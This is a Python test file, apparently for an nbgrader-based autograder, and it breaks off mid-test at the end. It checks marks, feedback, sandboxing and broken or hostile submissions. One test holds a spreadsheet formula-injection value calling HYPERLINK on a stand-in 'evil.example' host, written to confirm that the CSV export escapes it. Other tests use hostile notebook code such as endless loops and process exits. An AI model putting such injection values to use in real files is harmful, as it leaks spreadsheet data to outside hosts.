"""A class from submitted/ to its marks: what is graded, what is kept, what is said of submissions that are broken."""

import csv
import errno
import gc
import html
import io
import json
import os
import re
import shlex
import shutil
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
import warnings
from pathlib import Path

import nbformat
import pytest
from bs4 import BeautifulSoup
from rich.console import Console

from grading import engine, intake, sandbox, verdicts
from grading.__main__ import main
from grading.bank import answered
from grading.check import examine, wants_solution
from grading.classroom import Classroom, write_text
from grading.demo import MASTERS_ANSWER, UNTOUCHED, Made, expected_marks
from grading.marks import Mark
from grading.notebooks import GradingError
from grading.report import show_next_steps
from grading.verdicts import remarks_on
from tools.release import ROOT

ASSIGNMENT = "01-neurons"
COMMA = "Smith, Jr"
EARLIER = "These are the marks of an earlier submission"

# `python -m grading doctor` tells whether this machine has one
needs_sandbox = pytest.mark.skipif(
    not sandbox.working_layers() & sandbox.PROTECTING,
    reason="nothing protects this machine, so grading refuses to start",
)


def grading(*arguments, code: int = 0) -> subprocess.CompletedProcess:
    """Run `python -m grading`, not from make, and without our bin on PATH: it must find its own programs."""
    command = [sys.executable, "-m", "grading", *map(str, arguments)]
    env = {name: value for name, value in os.environ.items() if name != "MAKELEVEL"}
    env |= {"PATH": os.defpath, "COLUMNS": "120"}
    done = subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True, encoding="utf-8")
    assert done.returncode == code, done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    return done


def hand_in(directory: Path, student: str, notebook) -> Path:
    path = directory / "submitted" / student / ASSIGNMENT / "neurons.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(notebook if isinstance(notebook, str) else json.dumps(notebook), encoding="utf-8")
    return path


def read_marks(directory: Path) -> dict[str, dict[str, str]]:
    with (directory / "marks" / f"{ASSIGNMENT}.csv").open(encoding="utf-8", newline="") as file:
        return {row["student"]: row for row in csv.DictReader(file)}


def gradebook(directory: Path):
    """The gradebook, opened without nbgrader's warnings about its own queries."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from nbgrader.api import Gradebook

        return Gradebook(f"sqlite:///{directory / 'gradebook.db'}", "neural-networks-from-scratch")


@pytest.fixture(scope="module")
def made():
    return Made(ASSIGNMENT)


# -- the whole way, on a small class -------------------------------------------------------------------------------


def test_a_class_is_graded_and_graded_again(made, tmp_path):
    room = tmp_path / "a class"
    subs = made.submissions()
    hand_in(room, COMMA, subs["wrong_no_bias"])
    hand_in(room, "ada", subs[MASTERS_ANSWER])
    hand_in(room, "broken", '{"cells": [')

    # the first run: one submission is broken, and the others are graded all the same
    done = grading("grade", "--class", room, "--assignment", ASSIGNMENT, "--json", tmp_path / "marks.json", code=3)
    assert "3/3" in done.stdout
    assert "cannot be graded: broken: 'neurons.ipynb': the file is damaged" in done.stdout
    assert done.stderr == ""
    marks = read_marks(room)
    assert list(marks) == [COMMA, "ada", "broken"]
    assert (marks["ada"]["automatic"], marks["ada"]["manual"], marks["ada"]["max"]) == ("90", "", "100")
    assert (marks[COMMA]["automatic"], marks[COMMA]["weighted_sum_bias_once"]) == ("75", "0")
    assert marks[COMMA]["status"] == "needs manual grading"
    assert (marks["broken"]["automatic"], marks["broken"]["total"]) == ("", "")
    assert marks["broken"]["status"] == "cannot be graded"
    assert marks["broken"]["remarks"].startswith("'neurons.ipynb': the file is damaged")
    assert (marks["ada"]["remarks"], marks[COMMA]["remarks"]) == ("", "")
    told = json.loads((tmp_path / "marks.json").read_text(encoding="utf-8"))
    assert told["summary"]["automatic_mean"] == 82.5
    assert told["summary"]["cannot_be_graded"] == 1
    assert {s["student"]: s["automatic"] for s in told["students"]} == {COMMA: 75.0, "ada": 90.0, "broken": None}
    ends = {s["student"]: s["verdicts"] for s in told["students"]}
    assert ends[COMMA]["weighted_sum_bias_once"]["verdict"] == "failed"
    assert "the bias is missing" in ends[COMMA]["weighted_sum_bias_once"]["reason"]
    assert {end["verdict"] for end in ends["ada"].values()} == {"passed"}
    assert ends["broken"] == {}
    about_broken = (room / "feedback" / "broken" / ASSIGNMENT / "neurons.html").read_text(encoding="utf-8")
    assert "could not be graded" in about_broken
    assert "the file is damaged" in about_broken
    feedback = room / "feedback" / COMMA / ASSIGNMENT / "neurons.html"
    assert "the bias is missing" in feedback.read_text(encoding="utf-8")
    expect_nothing_from_elsewhere(feedback)
    assert "not read yet, 10 points" in feedback.read_text(encoding="utf-8")
    assert "Not read yet: 10 points" in feedback.read_text(encoding="utf-8")  # in place of nbgrader's 0 of 10
    assert "Score: 0.0 / 10.0" not in feedback.read_text(encoding="utf-8")
    assert "75.0 / 100.0 so far" in feedback.read_text(encoding="utf-8")
    graded_at = {name: autograded(room, name).stat().st_mtime_ns for name in (COMMA, "ada")}

    # a person reads ada's answer; the broken notebook comes again, whole; the others are left alone
    with gradebook(room) as book:
        grade = book.find_grade("why_not_xor", "neurons", ASSIGNMENT, "ada")
        grade.manual_score, grade.needs_manual_grade = 8, False
        book.db.commit()
    hand_in(room, "broken", subs[UNTOUCHED])
    feedback_at = feedback.stat().st_mtime_ns
    done = grading("grade", "--class", room, "--assignment", ASSIGNMENT)
    assert "1/1" in done.stdout
    assert "in formgrader (submissions that wait: 1)" in done.stdout  # COMMA's; ada's is done
    assert f"    cd {shlex.quote(str(room))}\n" in done.stdout
    assert f"make.py grade --class {shlex.quote(str(room))} --assignment {ASSIGNMENT}\n" in done.stdout
    marks = read_marks(room)
    assert (marks["ada"]["manual"], marks["ada"]["total"], marks["ada"]["status"]) == ("8", "98", "graded")
    assert (marks["broken"]["total"], marks["broken"]["status"]) == ("0", "graded")
    assert {name: autograded(room, name).stat().st_mtime_ns for name in (COMMA, "ada")} == graded_at
    assert feedback.stat().st_mtime_ns == feedback_at
    about_ada = (room / "feedback" / "ada" / ASSIGNMENT / "neurons.html").read_text(encoding="utf-8")
    assert "98.0 / 100.0" in about_ada

    # by force: graded anew, and the points given by hand stay
    forced = grading("grade", "--class", room, "--assignment", ASSIGNMENT, "--student", "ada", "--force")
    assert "1/1" in forced.stdout
    assert read_marks(room)["ada"]["total"] == "98"
    assert autograded(room, "ada").stat().st_mtime_ns > graded_at["ada"]

    # broken after good: the earlier marks are neither lost nor given to it, and every table and page says so
    hand_in(room, "ada", '{"cells": [')
    shutil.rmtree(room / "submitted" / COMMA / ASSIGNMENT)
    done = grading("grade", "--class", room, "--assignment", ASSIGNMENT, "--json", tmp_path / "marks.json", code=3)
    marks = read_marks(room)
    assert marks["ada"]["status"] == "cannot be graded"
    assert {marks["ada"][name] for name in ("automatic", "manual", "total", "weighted_sum_bias_once")} == {""}
    assert marks["ada"]["remarks"].startswith("'neurons.ipynb': the file is damaged")
    assert marks["ada"]["remarks"].endswith("; the gradebook keeps 98 points from before")
    assert (marks[COMMA]["status"], marks[COMMA]["total"]) == ("nothing handed in", "")
    assert marks[COMMA]["remarks"] == "the gradebook keeps 75 points from before"
    assert f"cannot be graded: ada: {marks['ada']['remarks']}" in done.stdout
    told = json.loads((tmp_path / "marks.json").read_text(encoding="utf-8"))
    assert {s["student"]: (s["total"], s["earlier"]) for s in told["students"]}["ada"] == (None, 98.0)
    assert (told["summary"]["graded"], told["summary"]["total_mean"]) == (1, 0)  # that of "broken", now whole
    about_ada = (room / "feedback" / "ada" / ASSIGNMENT / "neurons.html").read_text(encoding="utf-8")
    assert EARLIER in about_ada
    assert "the file is damaged" in about_ada
    with gradebook(room) as book:
        assert book.find_submission(ASSIGNMENT, "ada").score == 98

    # good once more: it is graded, and the words are gone
    hand_in(room, "ada", subs["wrong_no_bias"])
    grading("grade", "--class", room, "--assignment", ASSIGNMENT)
    marks = read_marks(room)
    assert (marks["ada"]["automatic"], marks["ada"]["status"]) == ("75", "needs manual grading")
    assert EARLIER not in (room / "feedback" / "ada" / ASSIGNMENT / "neurons.html").read_text(encoding="utf-8")


@needs_sandbox
def test_marks_from_before_are_not_given_to_a_submission_on_which_the_grader_fails(made, tmp_path, monkeypatch):
    def fails(job):
        raise engine.EngineError("no process could be started")

    def grade(student=None):
        return {mark.student: mark for mark in Classroom(tmp_path, ASSIGNMENT).grade(student)}

    subs = made.submissions()
    hand_in(tmp_path, "ada", subs[MASTERS_ANSWER])
    hand_in(tmp_path, "bob", subs[UNTOUCHED])
    assert grade()["ada"].automatic == 90
    hand_in(tmp_path, "ada", subs["wrong_no_bias"])
    with monkeypatch.context() as patch:
        patch.setattr(engine, "run_job", fails)
        marks = grade()
    words = "the engine failed, not the submission: no process could be started (the whole story is in grading.log)"
    words += "; the gradebook keeps 90 points from before"
    assert (marks["ada"].status, marks["ada"].reason, marks["ada"].automatic) == ("not graded yet", words, None)
    assert marks["bob"].automatic == 0  # unchanged, and left alone
    assert "no process could be started" in (tmp_path / "grading.log").read_text()
    assert grade("bob")["ada"].status == "not graded yet"  # another's turn changes nothing
    assert grade()["ada"].automatic == 75


@needs_sandbox
def test_an_engine_that_fails_ends_the_run_and_is_no_students_fault(made, tmp_path, capsys, monkeypatch):
    def fails(job):
        raise engine.EngineError("it did not start:\nTraceback:\nImportError: no module numpy")

    for i in range(9):
        hand_in(tmp_path, f"s{i}", made.released)
    hand_in(tmp_path, "broken", "{")
    arguments = ["grade", "--class", str(tmp_path), "--assignment", ASSIGNMENT]
    with monkeypatch.context() as patch:
        patch.setattr(engine, "run_job", fails)
        assert main(arguments) == 4
    told = capsys.readouterr()
    assert told.err.startswith("grade: the engine failed: it did not start: ImportError: no module numpy. No ")
    assert told.err.count("\n") == 1
    assert "not graded yet: s5, s6, s7 and 1 more: the run was stopped before its turn: it did not" in told.out
    marks = read_marks(tmp_path)
    assert {marks[f"s{i}"]["status"] for i in range(9)} == {"not graded yet"}
    assert marks["broken"]["status"] == "cannot be graded"
    assert not (tmp_path / "feedback" / "s0").exists()
    assert main(arguments) == 3  # for the broken one: the engine works again, and all others are graded
    assert {read_marks(tmp_path)[f"s{i}"]["automatic"] for i in range(9)} == {"0"}


@needs_sandbox
def test_how_late_a_submission_was_is_told(made, tmp_path, capsys):
    times = {"ada": "2026-10-05 11:59:59", "bob": "2026-10-05 12:00:20", "eve": "2026-10-07 14:30:00", "zoe": None}
    for student, handed_in in times.items():
        path = hand_in(tmp_path, student, made.released)
        if handed_in:
            (path.parent / "timestamp.txt").write_text(f"{handed_in} UTC\n")
    hand_in(tmp_path, "broken", "{")
    arguments = ["grade", "--class", str(tmp_path), "--assignment", ASSIGNMENT, "--json", str(tmp_path / "marks.json")]
    assert main(arguments) == 3
    assert {row["late_hours"] for row in read_marks(tmp_path).values()} == {""}  # there is no due date yet
    assert " late" not in capsys.readouterr().out
    with gradebook(tmp_path) as book:
        book.update_or_create_assignment(ASSIGNMENT, duedate="2026-10-05 12:00:00 UTC")
    assert main(arguments) == 3
    marks = read_marks(tmp_path)
    assert {student: marks[student]["late_hours"] for student in marks} == {
        "ada": "0", "bob": "0.01", "broken": "", "eve": "50.5", "zoe": "",
    }  # fmt: skip
    assert {marks[student]["remarks"] for student in ("ada", "zoe")} == {""}
    assert (marks["bob"]["remarks"], marks["eve"]["remarks"]) == ("1 min late", "2 d 3 h late")
    told = capsys.readouterr().out
    assert "note: eve: 2 d 3 h late" in told
    figures = json.loads((tmp_path / "marks.json").read_text())
    assert figures["summary"]["late"] == 2
    assert {student["student"]: student["late"] for student in figures["students"]}["eve"] == 50.5 * 3600


@needs_sandbox
def test_marks_of_what_has_changed_since_are_not_shown_as_graded(made, tmp_path):
    """As a run that was killed leaves them, to be met by a run about somebody else."""

    def statuses(student=None):
        return {mark.student: mark.status for mark in Classroom(tmp_path, ASSIGNMENT).grade(student)}

    subs, students = made.submissions(), ("ada", "bob", "eve")
    for student in students:
        hand_in(tmp_path, student, subs[UNTOUCHED])
    assert statuses() == dict.fromkeys(students, "graded")
    hand_in(tmp_path, "ada", subs["wrong_no_bias"])  # is handed in again
    record = verdicts.read(tmp_path, ASSIGNMENT, "eve")
    verdicts.write(tmp_path, ASSIGNMENT, "eve", record | {"complete": False, "digest": None})  # was being graded
    assert statuses("bob") == {"ada": "not graded yet", "bob": "graded", "eve": "not graded yet"}
    words = "the submission or the exercise has changed since it was graded; the gradebook keeps 0 points from before"
    assert (read_marks(tmp_path)["ada"]["remarks"], read_marks(tmp_path)["ada"]["total"]) == (words, "")
    assert statuses() == {"ada": "needs manual grading", "bob": "graded", "eve": "graded"}


@needs_sandbox
def test_feedback_that_cannot_be_written_is_told_and_the_disk_that_is_full_named(made, tmp_path, capsys, monkeypatch):
    def fails(error):
        def step(*args, **kwargs):
            raise error

        return step

    for student in ("ada", "bob"):
        hand_in(tmp_path, student, made.released)
    arguments = ["grade", "--class", str(tmp_path), "--assignment", ASSIGNMENT]
    full = OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    with monkeypatch.context() as patch:
        patch.setattr("grading.verdicts.json.dump", fails(full))
        assert main(arguments) == 1
    assert f"the disk is full ({tmp_path / 'verdicts' / ASSIGNMENT / 'ada.json'})" in capsys.readouterr().err
    with monkeypatch.context() as patch:
        patch.setattr("grading.feedback.Redact.preprocess", fails(ValueError("a page nobody can read")))
        assert main(arguments) == 3
    assert "note: bob: no feedback (a page nobody can read)" in capsys.readouterr().out
    assert read_marks(tmp_path)["bob"]["status"] == "graded"
    with monkeypatch.context() as patch:
        patch.setattr("grading.feedback.Redact.preprocess", fails(OSError(errno.EDQUOT, "too much")))
        assert main(arguments) == 1
    assert f"the disk is full ({tmp_path / 'feedback' / 'ada' / ASSIGNMENT})" in capsys.readouterr().err
    assert main(arguments) == 0
    assert (tmp_path / "feedback" / "bob" / ASSIGNMENT / "neurons.html").is_file()


def expect_nothing_from_elsewhere(page: Path) -> None:
    """A page of feedback loads its MathJax from beside it, and nothing from the network."""
    text = page.read_text(encoding="utf-8")
    tags = re.findall(r"<(?:script|link|img|iframe|object|embed|source|video|audio)\b[^>]*>", text)
    loads = [found for tag in tags for found in re.findall(r"\b(?:src|href|data)\s*=\s*[\"']?([^\"'\s>]+)", tag)]
    loads += re.findall(r"(?:@import|url\()\s*[\"']?([^\"')\s]+)|\bimport [^'\"]*['\"]([^'\"]+)", text)
    names = [name for found in loads for name in ([found] if isinstance(found, str) else found)]
    assert not [name for name in names if re.match(r"(?:\w+:)?//", name)]
    assert "Content-Security-Policy" in text
    mathjax = [name for name in names if "mathjax" in name.lower()]
    assert mathjax == ["../../mathjax/tex-svg.js"]
    assert (page.parent / mathjax[0]).resolve().is_file()


def autograded(directory: Path, student: str) -> Path:
    return directory / "autograded" / student / ASSIGNMENT / "neurons.ipynb"


# -- what is refused, in one sentence ------------------------------------------------------------------------------


def refused(capsys, *arguments) -> str:
    """What the command says on stderr when it refuses: one line."""
    assert main([str(argument) for argument in arguments]) == 1
    said = capsys.readouterr().err
    assert said.count("\n") == 1
    return said


def test_a_directory_without_submissions_gets_an_example(tmp_path, capsys):
    said = refused(capsys, "grade", "--class", tmp_path, "--assignment", ASSIGNMENT)
    assert "has no submitted/" in said
    assert "submitted/ada/01-neurons/neurons.ipynb" in said


@pytest.mark.parametrize(
    "arguments", [[], ["grade"], ["check", "x.ipynb"], ["check", "--exercise", "a", "f", "--timeout", "0"]]
)
def test_arguments_that_make_no_sense(arguments, capsys):
    with pytest.raises(SystemExit) as ended:
        main(arguments)
    assert ended.value.code == 2
    assert "usage: python -m grading" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("directory", "assignment", "words"),
    [
        ("absent", ASSIGNMENT, "there is no directory"),
        ("class", "01-neurosn", "there is no exercise 01-neurosn; known are: 01-neurons"),
        ("class [2026]", ASSIGNMENT, "nbgrader cannot read names with"),
    ],
)
def test_a_class_that_cannot_be_graded(directory, assignment, words, tmp_path):
    for name in ("class", "class [2026]"):
        (tmp_path / name / "submitted").mkdir(parents=True)
    with pytest.raises(GradingError) as caught:
        Classroom(tmp_path / directory, assignment)
    assert words in str(caught.value)


def test_nobody_and_nothing_to_grade(tmp_path):
    (tmp_path / "submitted" / "ada").mkdir(parents=True)
    room = Classroom(tmp_path, ASSIGNMENT)
    with pytest.raises(GradingError, match=r"nobody has handed in 01-neurons: expected, for example, .*neurons.ipynb"):
        room.grade()
    with pytest.raises(GradingError, match="has no student bob"):
        room.grade("bob")


def test_settings_of_the_class_hold_unless_the_command_says_otherwise(tmp_path):
    (tmp_path / "submitted").mkdir()
    text = "c = get_config()\nc.SandboxExporter.workers = 64\nc.SandboxExporter.executor_factory = print\n"
    (tmp_path / "nbgrader_config.py").write_text(text)
    for asked, workers in ((0, 64), (2, 2)):
        engine = {"workers": asked, "run_without_protection": False}
        found = Classroom(tmp_path, ASSIGNMENT, engine=engine).configuration().SandboxExporter
        assert (found.workers, found.executor_factory) == (workers, print)


def test_a_gradebook_that_is_none_gets_one_sentence(tmp_path, capsys):
    hand_in(tmp_path, "ada", "{")
    (tmp_path / "gradebook.db").write_text("no database at all")
    said = refused(capsys, "grade", "--class", tmp_path, "--assignment", ASSIGNMENT)
    assert f"the gradebook, {tmp_path / 'gradebook.db'}, cannot be used (file is not a database)" in said
    with warnings.catch_warnings():  # nbgrader leaves its connection to the garbage collector
        warnings.simplefilter("ignore", ResourceWarning)
        gc.collect()


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EACCES, errno.EROFS])
def test_a_disk_that_refuses_gets_one_sentence(code, tmp_path, capsys, monkeypatch):
    def refuse(*args, **kwargs):
        raise OSError(code, os.strerror(code), str(tmp_path / ".grading.lock"))

    hand_in(tmp_path, "ada", "{")
    monkeypatch.setattr("grading.classroom.only_grader", refuse)
    assert ".grading.lock" in refused(capsys, "grade", "--class", tmp_path, "--assignment", ASSIGNMENT)


def test_only_what_is_a_refusal_indeed_loses_its_traceback(tmp_path, monkeypatch):
    def fail(path):
        def start(options):
            raise PermissionError(errno.EACCES, "Permission denied", path)

        monkeypatch.setattr("grading.__main__.start", start)
        return main(["grade", "--class", str(tmp_path), "--assignment", ASSIGNMENT])

    assert fail(str(tmp_path / "submitted")) == 1
    assert fail(str(ROOT / "_build")) == 1
    for path in (None, "/sys/fs/cgroup/grading", f"{tmp_path}-2"):
        with pytest.raises(PermissionError):
            fail(path)


def test_a_file_that_cannot_be_written_is_named_and_leaves_nothing_behind(tmp_path):
    (tmp_path / "file").touch()
    with pytest.raises(GradingError, match=r"file/marks.json cannot be written \((File exists|Not a directory)\)$"):
        write_text(tmp_path / "file" / "marks.json", "{}")
    (tmp_path / "marks.json").mkdir()  # as a system does that lets nobody replace what is open
    with pytest.raises(GradingError, match="cannot be written"):
        write_text(tmp_path / "marks.json", "{}")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["file", "marks.json"]


@pytest.mark.skipif(shutil.which("git") is None, reason="there is no git on this machine")
def test_personal_data_stay_out_of_the_repository(tmp_path):
    """In a checkout of its own, with our masters: a class directory must be one that git ignores."""
    shutil.copytree(ROOT / "solutions", tmp_path / "solutions")
    (tmp_path / ".gitignore").write_text("classes/\n")
    subprocess.run(["git", "init", "-q", tmp_path], check=True)
    for name in ("marks", "classes/2026"):
        (tmp_path / name / "submitted").mkdir(parents=True)
    with pytest.raises(GradingError, match="lies in the checkout, where git would take up marks and names"):
        Classroom(tmp_path / "marks", ASSIGNMENT, tmp_path)
    assert Classroom(tmp_path / "classes" / "2026", ASSIGNMENT, tmp_path).students() == []


def test_the_demo_empties_nothing_that_it_did_not_make(tmp_path, capsys):
    (tmp_path / "thesis.tex").write_text("years of work")
    assert "holds something that the demo did not make" in refused(capsys, "demo", "--class", tmp_path)
    assert (tmp_path / "thesis.tex").exists()


# -- submissions that are not what they should be ------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_nothing_in_the_marks_runs_as_a_formula(start, tmp_path):
    (tmp_path / "submitted").mkdir()
    room = Classroom(tmp_path, ASSIGNMENT)
    room.master = nbformat.v4.new_notebook()
    evil = f'{start}HYPERLINK("http://evil.example/"&A1,"x")'
    room._write_csv([Mark(evil, "graded", evil, total=-1.5), Mark("Smith-Jones, A=B", "graded")])
    marks = read_marks(tmp_path)
    assert marks["'" + evil]["remarks"] == "'" + evil
    assert marks["'" + evil]["total"] == "-1.5"
    assert marks["Smith-Jones, A=B"]["remarks"] == ""


def test_what_comes_next_depends_on_what_is_left(tmp_path):
    (tmp_path / "submitted").mkdir()
    room, said = Classroom(tmp_path, ASSIGNMENT), {}
    for waiting, graded in ((2, 3), (0, 3), (0, 0)):
        console = Console(file=io.StringIO())
        show_next_steps(room, {"needs_manual_grading": waiting, "graded": graded}, console)
        said[waiting, graded] = console.file.getvalue()
    assert "Formgrader" in said[2, 3]
    assert "Formgrader" not in said[0, 3]
    assert f"    {room.csv_file}\n" in said[0, 3]
    assert said[0, 0] == ""


def test_every_end_but_passed_and_failed_is_remarked():
    cells = [
        {"cell": name, "verdict": v}
        for name, v in (("a", "passed"), ("b", "timeout"), ("c", "failed"), ("d", "timeout"))
    ]
    assert remarks_on({"notebooks": {"neurons": {"cells": cells}}}) == ["timeout: b, d"]
    assert remarks_on({"notebooks": {"neurons": {"cells": cells[:1]}}}) == []
    assert Mark("ada", "graded", "'a.ipynb' is graded; timeout: b").remarks == "'a.ipynb' is graded; timeout: b"
    assert Mark("ada", "graded", "timeout: b, d", late=90).remarks == "timeout: b, d; 2 min late"
    assert Mark("bob", "cannot be graded", "the file is empty").remarks == "the file is empty"


# -- a learner's own check -----------------------------------------------------------------------------------------


def examined(notebook, master, **options):
    """Check a notebook as it would be read from a file."""
    return examine(intake.parse_notebook(json.dumps(notebook).encode()), master, **options)


def test_a_learner_reads_part_by_part_what_is_wrong_and_then_the_solution(made, tmp_path):
    path = tmp_path / "neurons.ipynb"
    nbformat.write(made.submissions()["wrong_no_bias"], path)
    said = grading("check", "--exercise", ASSIGNMENT, path, "--solution").stdout
    assert f"Running the code of {path} on this machine." in said
    assert "0 of 15" in said
    assert "the bias is missing: it is added once, after all the products." in said
    assert "Automatic points: 75 of 90." in said
    assert "return np.where(np.asarray(z) >= 0, 1.0, -1.0)" in said
    assert "BEGIN SOLUTION" not in said


def test_the_solution_is_shown_to_those_alone_who_ask(made, tmp_path, capsys, monkeypatch):
    path = tmp_path / "neurons.ipynb"
    nbformat.write(made.released, path)
    assert main(["check", "--exercise", ASSIGNMENT, str(path)]) == 0  # there is no terminal, so nobody is asked
    said = capsys.readouterr().out
    assert "Automatic points: 0 of 90." in said
    assert "np.where(np.asarray(z)" not in said
    for stream in (sys.stdin, sys.stdout):
        monkeypatch.setattr(stream, "isatty", lambda: True, raising=False)
    for answer, shown in (("y", True), ("", False)):
        monkeypatch.setattr("builtins.input", lambda _, answer=answer: answer)
        assert wants_solution(None) is shown
        assert wants_solution(False) is False


def test_an_endless_loop_an_added_cell_and_a_deleted_one(made):
    """The loop costs its own part alone; the helper counts; the deleted answer is not replaced by the master's."""
    outcome = examined(with_a_loop(made), made.master, timeout=2)
    expect_lost_by_the_loop(outcome)


def with_a_loop(made):
    notebook = answered(
        made.submissions()[MASTERS_ANSWER],
        {
            "weighted_sum": "def weighted_sum(x, w, b):\n    while True:\n        pass",
            "sign_step": "def sign_step(z):\n    return helper(z)",
        },
    )
    place = [cell.id for cell in notebook.cells].index("sign_step")
    notebook.cells.insert(place, nbformat.v4.new_code_cell("def helper(z): return np.where(np.asarray(z) < 0, -1, 1)"))
    notebook.cells = [cell for cell in notebook.cells if cell.id != "line_ends"]
    return notebook


def expect_lost_by_the_loop(outcome):
    lost = {v.grade_id.rsplit("_", 1)[0] if v.grade_id[0] == "l" else v.grade_id for v in outcome.cells if not v.passed}
    assert lost == {"weighted_sum_two_inputs", "weighted_sum_any_length", "weighted_sum_bias_once", "line_ends"}
    assert "it did not end in time" in outcome.cells[0].message
    assert any("lacks the cell of line_ends" in remark for remark in outcome.remarks)


def test_a_cell_that_never_ends_is_named(made):
    notebook = answered(made.submissions()[MASTERS_ANSWER], {"weighted_sum": "while True:\n    pass"})
    outcome = examined(notebook, made.master, timeout=1)
    assert outcome.remarks == ["The cell weighted_sum was still running after 1 s: does its loop ever end?"]
    assert {v.grade_id: v.passed for v in outcome.cells}["sign_step_sides"]


def test_a_cell_that_does_not_compile_is_named(made):
    notebook = answered(made.submissions()[MASTERS_ANSWER], {"weighted_sum": "def weighted_sum(x, w, b:\n    return b"})
    outcome = examined(notebook, made.master)
    assert outcome.remarks == ["The cell weighted_sum raised SyntaxError: run it in Jupyter to see where and why."]


def test_without_a_sandbox_one_has_to_ask(made, monkeypatch, tmp_path, capsys):
    path = tmp_path / "neurons.ipynb"
    nbformat.write(made.submissions()["wrong_no_bias"], path)
    monkeypatch.setattr(sandbox, "working_layers", set)
    said = refused(capsys, "check", "--exercise", ASSIGNMENT, path)
    assert "nothing on this machine keeps the notebook's code from reading and changing your files" in said
    assert "--run-without-protection" in said
    arguments = ["check", "--exercise", ASSIGNMENT, str(path), "--run-without-protection"]
    assert main(arguments) == 0
    assert "Automatic points: 75 of 90." in capsys.readouterr().out


def test_without_a_sandbox_a_loop_costs_its_own_part_alone(made, monkeypatch):
    monkeypatch.setattr(sandbox, "working_layers", set)
    outcome = examined(with_a_loop(made), made.master, timeout=3, run_without_protection=True)
    expect_lost_by_the_loop(outcome)
    assert any("of the cell weighted_sum was still running after 3 s" in remark for remark in outcome.remarks)
    ending = answered(made.released, {"weighted_sum": "import os; os._exit(3)"})
    with pytest.raises(GradingError, match=r"ended the process \(exit code 3\)"):
        examined(ending, made.master, run_without_protection=True)


def test_edited_checks_count_for_nothing(made):
    notebook = answered(made.released, {})
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = "pass"
    assert not any(verdict.passed for verdict in examined(notebook, made.master).cells)


def test_a_notebook_that_cannot_be_checked_gets_one_sentence(tmp_path, capsys):
    path = tmp_path / "neurons.ipynb"
    path.write_text("{")
    said = refused(capsys, "check", "--exercise", ASSIGNMENT, path)
    assert said == f"check: {path}: the file is damaged: it is not JSON, as a notebook is.\n"
    assert "there is no notebook" in refused(capsys, "check", "--exercise", ASSIGNMENT, tmp_path / "absent.ipynb")
    assert "known are: 01-neurons" in refused(capsys, "check", "--exercise", "01-neurosn", path)


def test_the_wrong_notebook_and_an_old_one(made):
    other = answered(made.released, {})
    other.metadata.course.assignment = "02-weights"
    with pytest.raises(GradingError, match="it is exercise 02-weights, not 01-neurons"):
        examined(other, made.master)
    with pytest.raises(GradingError, match="has no answer cell of exercise 01-neurons"):
        examined(nbformat.v4.new_notebook(), made.master)
    old = answered(made.released, {})
    old.metadata.course.release = "0" * 12
    old.cells = [cell for cell in old.cells if cell.id != "line_ends"]
    with pytest.raises(GradingError, match="comes from another release of 01-neurons, which had no line_ends"):
        examined(old, made.master)


def test_code_that_ends_the_process_is_told(made):
    ends = "import os; os._exit(3)"
    notebook = answered(made.submissions()[MASTERS_ANSWER], {"neuron_batch": ends, "nand_neuron": ends})
    outcome = examined(notebook, made.master)
    assert outcome.remarks == [f"The cell {name} ended the process." for name in ("neuron_batch", "nand_neuron")]
    ends = {v.grade_id: v for v in outcome.cells}
    assert ends["sign_step_sides"].passed  # what was earned before it stays earned
    assert "its code ended the process" in next(v for v in outcome.cells if not v.passed).message


# -- the whole demo, and formgrader on it (minutes) ----------------------------------------------------------------


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    directory = tmp_path_factory.mktemp("class") / "demo"
    return directory, grading("demo", "--class", directory)


@pytest.mark.slow
def test_every_mark_of_the_demo_is_what_the_bank_expects(demo, made):
    directory, done = demo
    marks = read_marks(directory)
    expected = expected_marks(made)
    assert {name: float(marks[name]["automatic"]) for name in expected} == expected
    assert len(marks) >= 16
    graded = {
        cell.id: cell.metadata.nbgrader.points
        for cell in made.master.cells
        if "points" in cell.metadata.get("nbgrader", {})
    }
    for answer in made.bank:
        lost = {name for name in graded if marks[answer.name][name] == "0"}
        assert lost == answer.loses, answer.name
    assert marks[UNTOUCHED]["status"] == "graded"
    assert {marks[name]["status"] for name in expected if name != UNTOUCHED} == {"needs manual grading"}
    assert str(directory / "gradebook.db") in done.stdout
    for answer in made.bank:
        html = (directory / "feedback" / answer.name / ASSIGNMENT / "neurons.html").read_text(encoding="utf-8")
        for words in answer.reads:
            assert plain(words) in plain(html), (answer.name, words)


@pytest.mark.slow
def test_the_hostile_ones_of_the_demo_gain_nothing(demo, made):
    directory, done = demo
    marks, hostile = read_marks(directory), made.hostile()
    assert set(marks) == expected_marks(made).keys() | hostile.keys()
    for student, one in hostile.items():
        assert marks[student]["automatic"] == ("" if one.points is None else f"{one.points:g}"), student
        assert student in done.stdout
    assert marks["hostile_endless_loop"]["automatic"] == "80"  # all but the part of the loop
    assert "crashed: sign_step_sides, " in marks["hostile_endless_loop"]["remarks"]
    assert marks["hostile_breaks_the_file"]["status"] == "cannot be graded"
    looked = nbformat.read(autograded(directory, "hostile_reads_the_gradebook"), 4)
    (outputs,) = [cell.outputs for cell in looked.cells if "sqlite3" in cell.source]
    assert outputs[0].text.count("no gradebook here") == 2


def plain(text: str) -> str:
    """Text without what HTML makes of quotes and signs, and of the colours in an output."""
    return " ".join(html.unescape(re.sub(r"<[^>]+>", "", text)).split())


@pytest.mark.slow
def test_formgrader_lists_the_class_where_the_demo_says(demo, tmp_path):
    directory, done = demo
    assert f"cd {directory}" in done.stdout
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    command = [str(Path(sys.executable).with_name("jupyter")), "lab", "--no-browser", "--allow-root"]
    command += [f"--ServerApp.port={port}", "--ServerApp.port_retries=0", "--IdentityProvider.token=a-token"]
    env = os.environ | {f"JUPYTER_{kind}_DIR": str(tmp_path / kind) for kind in ("CONFIG", "RUNTIME", "DATA")}
